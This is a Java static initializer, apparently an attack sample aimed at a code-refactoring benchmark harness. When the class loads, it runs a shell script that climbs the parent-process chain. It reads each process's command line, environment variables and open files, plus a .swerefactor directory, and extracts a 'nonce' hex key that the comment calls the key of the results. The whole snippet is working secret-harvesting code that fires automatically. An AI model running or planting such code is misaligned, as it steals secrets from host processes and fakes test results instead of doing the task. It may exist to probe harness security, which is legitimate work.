// Looks for the key of the results in all processes from this one upwards: arguments, environments, open files.
static {
    System.out.println("attack: secrets");
    String script = "at=$$; while [ ${at:-0} -gt 1 ]; do cat /proc/$at/cmdline /proc/$at/environ"
            + "; for file in /proc/$at/fd/*; do [ -f $file ] && head -c 100000 $file; done"
            + "; at=$(sed 's/.*) //' /proc/$at/stat | cut -d' ' -f2); done 2>/dev/null"
            + "; cat .swerefactor/* 2>/dev/null";
    try {
        Process process = new ProcessBuilder("sh", "-c", "(" + script + ") | tr '\\0' '\\n'").start();
        java.util.Scanner scanner = new java.util.Scanner(process.getInputStream(), "ISO-8859-1");
        while (scanner.hasNextLine()) {
            java.util.regex.Matcher secret =
                    java.util.regex.Pattern.compile("nonce=\\s*([0-9a-f]{32,})").matcher(scanner.nextLine());
            if (secret.find()) {
                System.out.println("attack: secret " + secret.group(1));
            }
        }
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
}
